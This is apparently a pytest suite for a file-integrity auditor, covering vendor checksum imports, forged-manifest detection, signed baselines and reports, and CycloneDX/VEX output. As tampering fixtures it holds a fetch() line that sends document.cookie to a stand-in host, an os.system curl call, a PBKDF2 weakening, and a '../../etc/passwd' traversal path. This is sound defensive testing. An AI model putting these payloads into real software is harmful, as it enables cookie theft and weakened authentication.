"""The trust chain: baselines from vendors' checksum lists, forged in-tree lists, signed baselines and
reports, CycloneDX with pedigree and VEX. Real artefacts where the claim is about them (a Debian
package's md5sums, a wheel's RECORD); every expectation is derived from the artefact or the edit."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from conftest import BASELINES, SAMPLES, copy_sample, invoke, validate_report
from test_generic_products import ARTEFACTS, _extract, _fetch, _unpack, built as built_baselines

SAMPLEDESK = BASELINES / "sampledesk"


def _yaml(path: Path):
    from auditor.baseline.store import load
    return load(path)


def _files(baseline) -> dict:
    return {e.path: e for e in baseline.entries if e.type == "file"}


# -- import from vendor lists: agreement with the baseline built from the same artefact's content -----

def test_deb_md5sums_import_agrees_with_the_content_baseline(tmp_path):
    version, name, how, _root = ARTEFACTS["wordpress"][0]
    deb = _fetch(name, how)
    built, imported = tmp_path / "b" / "wordpress" / "built.yaml", tmp_path / "i" / "wordpress" / f"{version}.yaml"
    run = invoke("baseline", "build", deb, "-p", "wordpress", "-V", version, "-o", built, "--no-content")
    assert run.code == 0, run
    run = invoke("baseline", "import", deb, "--kind", "md5sums", "-p", "wordpress", "-V", version, "-o", imported)
    assert run.code == 0, run
    b, i = _yaml(built), _yaml(imported)
    assert i.trust.level == "vendor-list" and i.trust.list_kind == "md5sums" and i.trust.digests == ("md5",)
    assert i.provenance.kind == "archive" and i.provenance.sha256 == hashlib.sha256(deb.read_bytes()).hexdigest()
    # every md5 the package lists is the md5 of that file's content in the package
    from debian.debfile import DebFile
    deb_file = DebFile(str(deb))
    unpacked = _unpack(deb, None)          # the package's data, unpacked by the test (tarfile), never by auditor
    ifiles, bfiles = _files(i), _files(b)
    assert ifiles and all(not (unpacked / p).is_symlink() and
                          e.digest == f"md5:{hashlib.md5((unpacked / p).read_bytes()).hexdigest()}"
                          for p, e in ifiles.items())
    assert set(ifiles) <= set(bfiles)
    # what the list leaves out is exactly the package's conffiles (dpkg keeps their digests elsewhere)
    raw_conf = deb_file.control.get_content("conffiles") or b""
    conffiles = {c.lstrip("/") for c in (raw_conf.decode() if isinstance(raw_conf, bytes) else raw_conf).split()}
    assert set(bfiles) - set(ifiles) == conffiles
    if conffiles:
        assert any(f"{len(conffiles)} conffiles not covered" in n for n in i.trust.notes)

    # an install audited against the imported baseline: its own release, nothing changed; one edit is caught
    tree = _extract(deb, None, tmp_path / "root")
    victim = sorted(p for p in ifiles if p.endswith(".php"))[0]
    run = invoke("audit", tree, "-b", tmp_path / "i", "-f", "json")
    report = run.json()
    assert report["identified_version"] == version, run
    assert report["baseline"]["trust"]["level"] == "vendor-list"
    assert not [f for f in report["findings"] if f["category"] in ("modified-file", "missing-file")]
    (tree / victim).write_bytes((tree / victim).read_bytes() + b"\n<?php /* vendor */ ?>\n")
    report = invoke("audit", tree, "-b", tmp_path / "i", "-f", "json").json()
    mod = [f for f in report["findings"] if f["category"] in ("modified-file", "security-sensitive-change")]
    assert [f["path"] for f in mod] == [victim]
    assert mod[0]["evidence"]["expected"]["weaker_digest"] == "md5"
    assert mod[0]["evidence"]["expected"]["md5"] == hashlib.md5((unpacked / victim).read_bytes()).hexdigest()


def test_wheel_record_import_agrees_with_the_content_baseline(tmp_path):
    version, name, how, _root = ARTEFACTS["django"][0]
    whl = _fetch(name, how)
    built, imported = built_baselines("django") / "django" / f"{version}.yaml", tmp_path / "i" / "django" / f"{version}.yaml"
    run = invoke("baseline", "import", whl, "--kind", "record", "-p", "django", "-V", version, "-o", imported)
    assert run.code == 0, run
    b, i = _yaml(built), _yaml(imported)
    assert i.trust.level == "vendor-list" and i.trust.digests == ("sha256",)
    # RECORD gives sha256 and size of every file: the same entries the content gives, RECORD itself included
    assert {p: (e.sha256, e.size) for p, e in _files(i).items()} == \
        {p: (e.sha256, e.size) for p, e in _files(b).items()}
    assert i.provenance.root.endswith(".dist-info/RECORD")


def test_record_tolerates_the_interpreter_line_pip_writes(tmp_path):
    """A script hashed in RECORD with '#!python' is official after pip wrote the real interpreter."""
    script = b"#!python\nimport sys\nprint('tool', sys.argv)\n"
    module = b"VALUE = 1\n"

    def row(path, data):
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        return f"{path},sha256={digest},{len(data)}\n"
    record = row("tool/__init__.py", module) + row("tool/cli.py", script) + "tool-1.0.dist-info/RECORD,,\n"
    lst = tmp_path / "RECORD"
    lst.write_text(record)
    assert invoke("baseline", "import", lst, "--kind", "record", "--origin", "vendor", "-p", "tool", "-V", "1.0",
                  "-o", tmp_path / "bl" / "tool" / "1.0.yaml").code == 0
    tree = tmp_path / "site"
    (tree / "tool").mkdir(parents=True)
    (tree / "tool-1.0.dist-info").mkdir()
    (tree / "tool" / "__init__.py").write_bytes(module)
    (tree / "tool" / "cli.py").write_bytes(script.replace(b"#!python", b"#!/usr/bin/python3", 1))
    (tree / "tool-1.0.dist-info" / "RECORD").write_text(record)
    report = invoke("audit", tree, "-b", tmp_path / "bl", "-f", "json").json()
    assert report["identified_version"] == "1.0"
    assert not [f for f in report["findings"] if f["severity"] != "info"], report["findings"]
    # a changed body is still a change
    (tree / "tool" / "cli.py").write_bytes(b"#!/usr/bin/python3\nimport os\nos.system('curl x')\n")
    report = invoke("audit", tree, "-b", tmp_path / "bl", "-f", "json").json()
    assert "tool/cli.py" in {f["path"] for f in report["findings"] if f["category"].endswith(("file", "change"))}


def test_archive_list_import_identifies_the_sample_release(tmp_path):
    lst = SAMPLES / "sampledesk-6.0.3-genuine" / "ARCHIVE"
    out = tmp_path / "bl" / "sampledesk" / "6.0.3.yaml"
    run = invoke("baseline", "import", lst, "--kind", "archive", "-p", "sampledesk", "-V", "6.0.3", "-o", out)
    assert run.code == 0, run
    b = _yaml(out)
    assert b.trust.level == "install-list"           # a bare file: its origin is not known
    listed = {ln.split("::", 1)[1] for ln in lst.read_text().splitlines()}
    assert set(_files(b)) == listed | {"ARCHIVE"}
    report = invoke("audit", SAMPLES / "sampledesk-6.0.3-genuine", "-b", tmp_path / "bl", "-f", "json").json()
    assert report["identified_version"] == "6.0.3" and report["identification"]["confidence"] == 1.0
    tree_files = {str(p.relative_to(SAMPLES / "sampledesk-6.0.3-genuine"))
                  for p in (SAMPLES / "sampledesk-6.0.3-genuine").rglob("*") if p.is_file()}
    integrity = [f for f in report["findings"] if f["category"] in ("modified-file", "missing-file", "added-file")]
    # only files the list does not name (and the site's local files) are not explained by it
    assert {f["path"] for f in integrity} <= tree_files - listed
    assert all(f["category"] == "added-file" for f in integrity)
    assert not [f for f in report["findings"] if f["category"] == "weakened-setting"]


@pytest.mark.parametrize("kind,text,match", [
    ("archive", "not-a-digest::Kernel/x.pm\n", r"ARCHIVE:1: expected '<md5>::<path>'"),
    ("archive", "d41d8cd98f00b204e9800998ecf8427e::../../etc/passwd\n", r"unsafe path '../../etc/passwd'"),
    ("md5sums", "d41d8cd98f00b204e9800998ecf8427e  a\nd41d8cd98f00b204e9800998ecf8427e  a\n", r"path listed twice"),
    ("record", "a.py,md5=AAAA,1\n", r"unsupported digest 'md5'"),
    ("wp-checksums", '{"checksums": {"wp-a.php": 3}}', r"expected an md5 hex digest"),
])
def test_malformed_lists_are_one_line_and_exit_2(tmp_path, kind, text, match):
    import re
    lst = tmp_path / "ARCHIVE"
    lst.write_text(text)
    run = invoke("baseline", "import", lst, "--kind", kind, "-p", "x", "-V", "1.0", "-o", tmp_path / "o" / "x.yaml")
    assert run.code == 2 and re.search(match, run.stderr) and len(run.stderr.strip().splitlines()) == 1, run
    assert not (tmp_path / "o").exists()


# -- in-tree lists regenerated to match tampered files ------------------------------------------------

def test_regenerated_record_in_an_installed_wheel_is_critical(tmp_path):
    version, name, how, _root = ARTEFACTS["django"][0]
    whl = _fetch(name, how)
    (tmp_path / "bl" / "django").mkdir(parents=True)
    shutil.copy(built_baselines("django") / "django" / f"{version}.yaml", tmp_path / "bl" / "django")
    tree = _extract(whl, None, tmp_path / "site")
    record = next(tree.glob("*.dist-info/RECORD"))
    victim = "django/contrib/auth/hashers.py"
    import re as _re
    original = (tree / victim).read_bytes()
    data = _re.sub(rb"(\n    iterations = )[0-9]+", rb"\g<1>1", original, count=1)     # PBKDF2 weakened
    assert data != original
    (tree / victim).write_bytes(data)
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    rows = [ln if not ln.startswith(victim + ",") else f"{victim},sha256={digest},{len(data)}"
            for ln in record.read_text().splitlines()]
    record.write_text("\n".join(rows) + "\n")
    report = invoke("audit", tree, "-b", tmp_path / "bl", "-f", "json").json()
    validate_report(report)
    forged = [f for f in report["findings"] if f["category"] == "forged-manifest"]
    assert [(f["path"], f["severity"]) for f in forged] == [(str(record.relative_to(tree)), "critical")]
    assert [(v["path"], v["state"], v["listed"]) for v in forged[0]["evidence"]["files"]] == \
        [(victim, "modified", f"sha256:{hashlib.sha256(data).hexdigest()}")]
    assert "weak_digest" not in forged[0]["evidence"]
    # the untouched install: its RECORD is the official file, nothing to say
    clean = _extract(whl, None, tmp_path / "clean")
    report = invoke("audit", clean, "-b", tmp_path / "bl", "-f", "json").json()
    assert not [f for f in report["findings"] if f["category"] == "forged-manifest"]


def test_an_edited_archive_list_that_vouches_for_nothing_tampered_is_only_a_modified_file(tmp_path):
    tree = copy_sample("sampledesk-6.0.3-genuine", tmp_path)
    lines = (tree / "ARCHIVE").read_text().splitlines()
    (tree / "ARCHIVE").write_text("\n".join(lines[1:]) + "\n")       # a row dropped, nothing hidden
    report = invoke("audit", tree, "-b", SAMPLEDESK, "-f", "json").json()
    assert not [f for f in report["findings"] if f["category"] == "forged-manifest"]
    assert "ARCHIVE" in {f["path"] for f in report["findings"] if f["category"] == "modified-file"}


# -- signatures -----------------------------------------------------------------------------------------

@pytest.fixture()
def keys(tmp_path):
    k = tmp_path / "keys" / "release.key"
    k.parent.mkdir()
    run = invoke("key", "generate", k)
    assert run.code == 0, run
    other = tmp_path / "keys" / "other.key"
    assert invoke("key", "generate", other).code == 0
    return k, Path(str(k) + ".pub"), Path(str(other) + ".pub")


@pytest.fixture()
def signed(tmp_path, keys):
    d = tmp_path / "signed"
    shutil.copytree(SAMPLEDESK, d / "sampledesk")
    run = invoke("baseline", "sign", d, "--key", keys[0])
    assert run.code == 0, run
    return d


def test_signed_baselines_verify_and_audit_with_require_signed(signed, keys):
    run = invoke("baseline", "verify", signed, "--trusted-keys", keys[1])
    assert run.code == 0 and "9 files signed" in run.stdout, run     # 8 baselines and their content pack
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-genuine", "-b", signed, "--require-signed",
                 "--trusted-keys", keys[1], "-f", "json")
    assert run.code == 1, run                          # missing patches, as without signatures
    key_id = keys[1].read_text().splitlines()[0].rsplit(" ", 1)[1]
    assert run.json()["baseline"]["signed_by"] == key_id


def test_require_signed_never_reuses_or_records_a_drift_result(signed, keys, tmp_path, monkeypatch):
    """A reused result is derived from the baselines through an unsigned cache: a signed run always
    audits, and records nothing a later run could take."""
    import marshal
    from auditor.scan import statcache
    monkeypatch.setenv("AUDITOR_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(statcache, "RACY_NS", 0)
    tree = tmp_path / "t"
    shutil.copytree(SAMPLES / "sampledesk-6.0.3-genuine", tree, symlinks=True)
    signed_run = ("-b", signed, "--require-signed", "--trusted-keys", keys[1], "-f", "json")
    first = tmp_path / "first.json"
    assert invoke("audit", tree, *signed_run, "-o", first).code == 1
    assert not list((tmp_path / "cache").glob("result-*.bin"))
    assert invoke("audit", tree, "-b", signed, "-f", "json", "-o", tmp_path / "plain.json").code == 1
    (record,) = (tmp_path / "cache").glob("result-*.bin")
    data = marshal.loads(record.read_bytes())
    data["report"]["findings"] = []                  # a poisoned record: no finding at all
    record.write_bytes(marshal.dumps(data))
    run = invoke("audit", tree, *signed_run, "--since", first)
    assert run.code == 1 and run.json()["drift"]["cache"]["result"] == "computed" and run.json()["findings"]


@pytest.mark.parametrize("attack", ["one-byte", "unsigned-dir", "other-key", "added", "removed", "swapped-sig"])
def test_require_signed_refuses_tampered_baselines(tmp_path, signed, keys, attack):
    target = signed / "sampledesk" / "6.0.3.yaml"
    if attack == "one-byte":
        raw = bytearray(target.read_bytes())
        at = raw.index(b"sha256: ") + 8                  # one hex digit of one file's digest
        raw[at] = ord("0") if raw[at] != ord("0") else ord("1")
        target.write_bytes(bytes(raw))
        expect = r"6\.0\.3\.yaml: changed after the baselines were signed"
    elif attack == "unsigned-dir":
        signed = tmp_path / "plain"
        shutil.copytree(SAMPLEDESK, signed / "sampledesk")
        expect = r"the baselines are not signed"
    elif attack == "other-key":
        keys = (keys[0], keys[2], keys[2])
        expect = r"which is not a trusted key"
    elif attack == "added":
        shutil.copy(target, signed / "sampledesk" / "9.9.9.yaml")
        expect = r"9\.9\.9\.yaml: not signed"
    elif attack == "removed":
        (signed / "sampledesk" / "7.0.1.yaml").unlink()
        expect = r"7\.0\.1\.yaml: signed but missing"
    else:   # the signature of another baseline copied over this one's
        shutil.copy(signed / "sampledesk" / "6.0.2.yaml.minisig", str(target) + ".minisig")
        expect = r"6\.0\.3\.yaml: signature does not verify"
    import re
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-genuine", "-b", signed, "--require-signed",
                 "--trusted-keys", keys[1])
    assert run.code == 2 and re.search(expect, run.stderr), run
    assert len(run.stderr.strip().splitlines()) == 1 and not run.stdout
    assert invoke("baseline", "verify", signed, "--trusted-keys", keys[1]).code in (1, 2)


def test_key_generate_never_overwrites(keys):
    before = keys[0].read_bytes()
    run = invoke("key", "generate", keys[0])
    assert run.code == 2 and "never overwrites a key" in run.stderr
    assert keys[0].read_bytes() == before and keys[0].stat().st_mode & 0o777 == 0o600


def test_encrypted_key_needs_its_password(tmp_path):
    """``key generate`` encrypts with minisign's scrypt limits (N = 2^20, r = 8, p = 1); an encrypted key signs
    with its password and refuses a wrong one (shown on a key with small limits: one scrypt at minisign's
    limits costs seconds, and the generation already paid one)."""
    import base64 as b64

    from auditor.trust import signing
    k = tmp_path / "enc.key"
    run = invoke("key", "generate", k, "--password-env", "PW", env={"PW": "correct horse"})
    assert run.code == 0, run
    raw = b64.b64decode(k.read_text().splitlines()[1])
    assert raw[2:4] == b"Sc" and int.from_bytes(raw[38:46], "little") == signing.OPSLIMIT \
        and int.from_bytes(raw[46:54], "little") == signing.MEMLIMIT
    (tmp_path / "d" / "p").mkdir(parents=True)
    shutil.copy(SAMPLEDESK / "6.0.3.yaml", tmp_path / "d" / "p" / "6.0.3.yaml")
    assert signing.scrypt_params(signing.OPSLIMIT, signing.MEMLIMIT) == (20, 8, 1)
    cheap = tmp_path / "cheap.key"
    cheap.write_text(signing.secret_file(signing.generate(), "correct horse",
                                         opslimit=1 << 15, memlimit=1 << 24))
    wrong = invoke("baseline", "sign", tmp_path / "d", "--key", cheap, env={"AUDITOR_KEY_PASSWORD": "wrong"})
    assert wrong.code == 2 and "wrong password" in wrong.stderr
    assert invoke("baseline", "sign", tmp_path / "d", "--key", cheap,
                  env={"AUDITOR_KEY_PASSWORD": "correct horse"}).code == 0


@pytest.mark.skipif(shutil.which("minisign") is None, reason="minisign is not installed (apt-get install minisign)")
def test_minisign_verifies_auditor_signatures_and_auditor_uses_minisign_keys(tmp_path, signed, keys):
    proc = subprocess.run(["minisign", "-Vm", str(signed / "sampledesk" / "6.0.3.yaml"), "-p", str(keys[1])],
                          capture_output=True, text=True)
    assert proc.returncode == 0 and "file:sampledesk/6.0.3.yaml" in proc.stdout, proc.stdout + proc.stderr
    subprocess.run(["minisign", "-G", "-W", "-p", str(tmp_path / "m.pub"), "-s", str(tmp_path / "m.key")],
                   check=True, capture_output=True)
    assert invoke("baseline", "sign", signed, "--key", tmp_path / "m.key").code == 0
    assert invoke("baseline", "verify", signed, "--trusted-keys", tmp_path / "m.pub").code == 0


def test_expect_sha256_pins_the_source_archive(tmp_path):
    src = tmp_path / "rel.tar.gz"
    with tarfile.open(src, "w:gz") as tar:
        data = b"VERSION = 1.0\n"
        ti = tarfile.TarInfo("rel/VERSION")
        ti.size = len(data)
        tar.addfile(ti, io.BytesIO(data))
    digest = hashlib.sha256(src.read_bytes()).hexdigest()
    out = tmp_path / "bl" / "x" / "1.0.yaml"
    bad = invoke("baseline", "build", src, "-p", "x", "-V", "1.0", "--root", "rel", "-o", out,
                 "--expect-sha256", "0" * 64)
    assert bad.code == 2 and f"sha256 is {digest}, not the pinned" in bad.stderr and not out.exists()
    ok = invoke("baseline", "build", src, "-p", "x", "-V", "1.0", "--root", "rel", "-o", out,
                "--expect-sha256", digest.upper())
    assert ok.code == 0, ok
    b = _yaml(out)
    assert (b.trust.level, b.trust.pinned_sha256, b.provenance.sha256) == ("pinned-artefact", digest, digest)


def test_signed_report_verifies_and_a_changed_byte_does_not(tmp_path, keys):
    out, html = tmp_path / "r.json", tmp_path / "r.html"
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-as-7.0.3", "-b", SAMPLEDESK, "--output-json", out,
                 "--output-html", html, "--sign-report", keys[0])
    assert run.code == 1, run
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    assert digest in html.read_text()
    ok = invoke("verify-report", out, "--trusted-keys", keys[1])
    assert ok.code == 0 and f"sha256:{digest}" in ok.stdout, ok
    assert invoke("verify-report", out, "--trusted-keys", keys[2]).code == 1
    out.write_bytes(out.read_bytes().replace(b'"critical"', b'"low"', 1))
    bad = invoke("verify-report", out, "--trusted-keys", keys[1])
    assert bad.code == 1 and "does not verify" in bad.stderr
    assert invoke("audit", SAMPLES / "sampledesk-6.0.3-genuine", "-b", SAMPLEDESK,
                  "--sign-report", keys[0]).code == 2      # nothing to sign without a JSON report


# -- CycloneDX ----------------------------------------------------------------------------------------

def _validate_cyclonedx(text: str) -> dict:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator
    errors = JsonStrictValidator(SchemaVersion.V1_5).validate_str(text)   # the official CycloneDX 1.5 schema
    assert errors is None, errors
    return json.loads(text)


def test_cyclonedx_of_the_dressed_up_sample_has_pedigree_and_vex(tmp_path):
    out, js = tmp_path / "bom.json", tmp_path / "r.json"
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-as-7.0.3", "-b", SAMPLEDESK, "-f", "cyclonedx", "-o", out,
                 "--output-json", js)
    assert run.code == 1, run
    bom = _validate_cyclonedx(out.read_text())
    report = json.loads(js.read_text())
    assert bom["bomFormat"] == "CycloneDX" and bom["specVersion"] == "1.5"
    install = bom["metadata"]["component"]
    assert (install["name"], install["version"]) == ("sampledesk", report["claimed_version"])
    ancestor = install["pedigree"]["ancestors"][0]
    assert (ancestor["version"], ancestor["purl"]) == (report["identified_version"],
                                                       f"pkg:generic/sampledesk@{report['identified_version']}")
    modified = sorted(f["path"] for f in report["findings"] if f["category"] == "modified-file")
    patches = install["pedigree"]["patches"]
    # each modified file's patch is its unified diff (the shipped baselines have their content pack)
    texts = [p["diff"]["text"] for p in patches if p["type"] == "unofficial"]
    assert all(t["contentType"] == "text/x-diff" for t in texts)
    assert sorted(t["content"].split("\n", 1)[0].removeprefix("--- a/") for t in texts) == modified
    missing = sorted(f["evidence"]["id"] for f in report["findings"] if f["category"] == "missing-patch")
    vulns = {v["id"]: v for v in bom["vulnerabilities"]}
    assert sorted(vulns) == missing
    assert all(v["analysis"]["state"] == "exploitable" and v["affects"] == [{"ref": "install"}]
               for v in vulns.values())
    again = invoke("audit", SAMPLES / "sampledesk-6.0.3-as-7.0.3", "-b", SAMPLEDESK, "-f", "cyclonedx")
    assert again.stdout == out.read_text()              # byte-identical for the same input


def test_cyclonedx_backport_is_vex_resolved_with_a_backport_patch():
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-mixed", "-b", SAMPLEDESK, "-f", "cyclonedx")
    bom = _validate_cyclonedx(run.stdout)
    vulns = {v["id"]: v for v in bom["vulnerabilities"]}
    assert vulns["SDSA-2018-01"]["analysis"]["state"] == "resolved"
    assert "Kernel/Modules/CustomerTicketOverview.pm" in vulns["SDSA-2018-01"]["analysis"]["detail"]
    backports = [p for p in bom["metadata"]["component"]["pedigree"]["patches"] if p["type"] == "backport"]
    assert [r["id"] for p in backports for r in p["resolves"]] == ["SDSA-2018-01"]
    assert {k for k, v in vulns.items() if v["analysis"]["state"] == "exploitable"} == \
        {"SDSA-2018-02", "SDSA-2018-03", "SDSA-2018-05"}


def test_npm_lock_import_chains_files_to_the_lock_integrity(tmp_path):
    """A node_modules tree from a package-lock.json: the registry tarball is checked against the lock's
    sha512 integrity, then every file of it is a sha256 entry under node_modules/<name>/."""
    import urllib.request
    version, name, how, _ = ARTEFACTS["jquery"][0]
    tgz = _fetch(name, how)
    try:
        with urllib.request.urlopen(f"https://registry.npmjs.org/jquery/{version}", timeout=60) as resp:
            dist = json.loads(resp.read())["dist"]
    except OSError as exc:
        pytest.skip(f"npm registry unreachable: {exc}")
    lock = {"name": "site", "lockfileVersion": 3, "requires": True, "packages": {
        "": {"name": "site", "dependencies": {"jquery": version}},
        "node_modules/jquery": {"version": version, "resolved": dist["tarball"], "integrity": dist["integrity"]}}}
    project = tmp_path / "site"
    (project / "node_modules").mkdir(parents=True)
    (project / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
    (tmp_path / "tarballs").mkdir()
    shutil.copy(tgz, tmp_path / "tarballs" / f"jquery-{version}.tgz")
    out = tmp_path / "bl" / "site" / "1.0.yaml"
    run = invoke("baseline", "import", project / "package-lock.json", "--kind", "npm-lock", "-p", "site",
                 "-V", "1.0", "--tarballs", tmp_path / "tarballs", "-o", out)
    assert run.code == 0, run
    b = _yaml(out)
    with tarfile.open(tgz) as tar:
        members = {ti.name.split("/", 1)[1]: hashlib.sha256(tar.extractfile(ti).read()).hexdigest()
                   for ti in tar if ti.isfile()}
        tar.extractall(tmp_path / "x", filter="data")
    assert {p: e.sha256 for p, e in _files(b).items() if p != "package-lock.json"} == \
        {f"node_modules/jquery/{p}": h for p, h in members.items()}
    assert (b.trust.list_kind, b.trust.level) == ("npm-lock", "vendor-list")
    # the installed tree (npm unpacks the tarball's package/ directory) audits clean, an edit is caught
    shutil.move(tmp_path / "x" / "package", project / "node_modules" / "jquery")
    (project / "node_modules" / ".package-lock.json").write_text("{}\n")      # npm's own bookkeeping
    report = invoke("audit", project, "-b", tmp_path / "bl", "-f", "json").json()
    assert report["identified_version"] == "1.0"
    assert not [f for f in report["findings"] if f["severity"] != "info"], report["findings"][:3]
    victim = project / "node_modules" / "jquery" / "dist" / "jquery.js"
    victim.write_text(victim.read_text() + "\nfetch('https://collect.vendor.example.net/?c='+document.cookie);\n")
    report = invoke("audit", project, "-b", tmp_path / "bl", "-f", "json").json()
    assert "node_modules/jquery/dist/jquery.js" in {f["path"] for f in report["findings"]}
    # a tarball that is not the one the lock names stops the import
    bad = tmp_path / "bad"
    bad.mkdir()
    with tarfile.open(bad / f"jquery-{version}.tgz", "w:gz") as tar:
        data = b"{}"
        ti = tarfile.TarInfo("package/package.json")
        ti.size = len(data)
        tar.addfile(ti, io.BytesIO(data))
    run = invoke("baseline", "import", project / "package-lock.json", "--kind", "npm-lock", "-p", "site",
                 "-V", "1.0", "--tarballs", bad, "-o", tmp_path / "bl2" / "x.yaml")
    assert run.code == 2 and "does not match the lock's integrity" in run.stderr, run


def test_a_well_known_sbom_consumer_reads_the_cyclonedx_report(tmp_path):
    """lib4sbom (the SBOM parser of cve-bin-tool and sbomscan) accepts the report: the real release as a
    package with its purl, every advisory with its VEX status and evidence."""
    lib4sbom = pytest.importorskip("lib4sbom.parser")
    out = tmp_path / "bom.cdx.json"
    run = invoke("audit", SAMPLES / "sampledesk-6.0.3-mixed", "-b", SAMPLEDESK, "-f", "cyclonedx", "-o", out,
                 "--output-json", tmp_path / "r.json")
    report = json.loads((tmp_path / "r.json").read_text())
    parser = lib4sbom.SBOMParser()
    parser.parse_file(str(out))
    assert parser.get_type() == "cyclonedx"
    packages = parser.get_packages()
    assert [(p["name"], p["version"]) for p in packages] == [("sampledesk", report["identified_version"])]
    status = {v["id"]: v["status"] for v in parser.get_vulnerabilities()}
    expected = {f["evidence"]["id"]: "exploitable" for f in report["findings"] if f["category"] == "missing-patch"}
    expected.update({f["evidence"]["id"]: "resolved" for f in report["findings"]
                     if f["category"] == "patched-by-backport"})
    assert status == expected and "resolved" in status.values()
    assert run.code == 1


def test_a_key_file_with_exhausting_scrypt_limits_is_refused(tmp_path):
    """A hostile encrypted key asking for 2^40 scrypt operations is one line, not hours of work."""
    import base64 as b64
    raw = bytearray(b"Ed" + b"Sc" + b"B2" + bytes(32) + (1 << 40).to_bytes(8, "little")
                    + (1 << 32).to_bytes(8, "little") + bytes(104))
    k = tmp_path / "hostile.key"
    k.write_text("untrusted comment: x\n" + b64.b64encode(bytes(raw)).decode() + "\n")
    (tmp_path / "d" / "p").mkdir(parents=True)
    shutil.copy(SAMPLEDESK / "6.0.3.yaml", tmp_path / "d" / "p" / "6.0.3.yaml")
    run = invoke("baseline", "sign", tmp_path / "d", "--key", k, env={"AUDITOR_KEY_PASSWORD": "x"})
    assert run.code == 2 and "beyond what auditor allows" in run.stderr, run


def test_wordpress_checksums_json_in_the_api_shape(tmp_path):
    """The WordPress checksums API's answer ({"checksums": {version: {path: md5}}}) imports as a baseline
    that identifies and verifies a WordPress tree. (The API itself is not reachable from the test
    machine: the answer is written from the Debian package's files, in the API's published shape.)"""
    version, name, how, root = ARTEFACTS["wordpress"][0]
    deb = _fetch(name, how)
    tree = _extract(deb, root, tmp_path / "wp")
    sums = {p.relative_to(tree).as_posix(): hashlib.md5(p.read_bytes()).hexdigest()
            for p in tree.rglob("*") if p.is_file() and not p.is_symlink()}
    api = tmp_path / "checksums.json"
    api.write_text(json.dumps({"checksums": {version: sums, "6.0.0": {"index.php": "0" * 32}}}))
    out = tmp_path / "bl" / "wordpress" / f"{version}.yaml"
    run = invoke("baseline", "import", api, "--kind", "wp-checksums", "--origin", "vendor", "-p", "wordpress",
                 "-V", version, "-o", out)
    assert run.code == 0, run
    b = _yaml(out)
    assert {p: e.digest for p, e in _files(b).items()} == {p: f"md5:{h}" for p, h in sums.items()}
    assert b.trust.list_kind == "wp-checksums" and b.trust.level == "vendor-list"
    victim = "wp-includes/user.php"
    (tree / victim).write_text((tree / victim).read_text().replace("function wp_signon(", "function wp_signon_x(", 1))
    report = invoke("audit", tree, "-b", tmp_path / "bl", "-f", "json").json()
    assert report["identified_version"] == version
    changed = [f["path"] for f in report["findings"] if f["category"] in ("modified-file", "security-sensitive-change")]
    assert changed == [victim]
    # several versions in one answer and none named: a clear error, not a guess
    amb = invoke("baseline", "import", api, "--kind", "wp-checksums", "-p", "wordpress", "-V", "9.9",
                 "-o", tmp_path / "x" / "w.yaml")
    assert amb.code == 2 and "--version names the one to import" in amb.stderr


def test_require_signed_never_takes_a_parsed_configuration_from_the_cache(signed, keys, tmp_path, monkeypatch):
    """A parsed-configuration record poisoned to say the vendor's Config.pm is empty: a default audit takes
    it (the cache is trusted as far as the user, docs/security.md), a signed run parses the file itself and
    reports the weakened setting."""
    import json as _json
    monkeypatch.setenv("AUDITOR_CACHE_DIR", str(tmp_path / "cache"))
    from auditor.config import settings as cfg
    tree = tmp_path / "t"
    shutil.copytree(SAMPLES / "sampledesk-6.0.3-genuine", tree, symlinks=True)
    config = tree / "Kernel/Config.pm"
    config.write_text(config.read_text().replace("1;\n", "    $Self->{'AuthModule::DB::CryptType'} = 'md5';\n1;\n"))
    signed_run = ("-b", signed, "--require-signed", "--trusted-keys", keys[1], "-f", "json")

    def weak(*args):
        cfg._PARSED.clear()
        report = invoke("audit", tree, *args).json()
        return [f["message"] for f in report["findings"] if "CryptType" in f["message"]]

    assert weak("-b", signed, "-f", "json")
    records = list((tmp_path / "cache").glob("config-*.json"))
    for rec in records:
        data = _json.loads(rec.read_bytes())
        if any(s[1] == ["AuthModule::DB::CryptType"] for s in data["s"]):
            data["s"] = []
            rec.write_text(_json.dumps(data))
    assert weak("-b", signed, "-f", "json") == []          # the user's own cache, poisoned: taken
    assert weak(*signed_run)                                # a signed run: parsed from the tree
